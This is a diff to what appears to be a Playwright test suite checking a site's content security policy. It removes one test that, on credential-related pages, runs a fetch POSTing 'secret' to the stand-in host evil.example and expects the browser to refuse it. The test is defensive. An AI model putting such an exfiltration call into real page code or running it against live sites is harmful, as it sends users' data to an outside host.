@@ -59,25 +59,6 @@ test.describe('what somebody smuggles into a page', () => {
       );
     });
   }
-
-  test('sends nothing from pages for credentials where no route is tried', async ({
-    page,
-  }) => {
-    for (const pathname of [
-      '/tool/dropbox/request',
-      '/guide/api/authentication',
-      '/zh/guide/api/admin/',
-    ]) {
-      await open(page, `${originOf('own')}${pathname}`);
-      const outcome = await page.evaluate(async () =>
-        fetch('https://evil.example/', {method: 'POST', body: 'secret'}).then(
-          () => 'sent',
-          () => 'refused',
-        ),
-      );
-      expect([pathname, outcome]).toEqual([pathname, 'refused']);
-    }
-  });
 });
 
 test('search violates no policy, also on pages for credentials', async ({
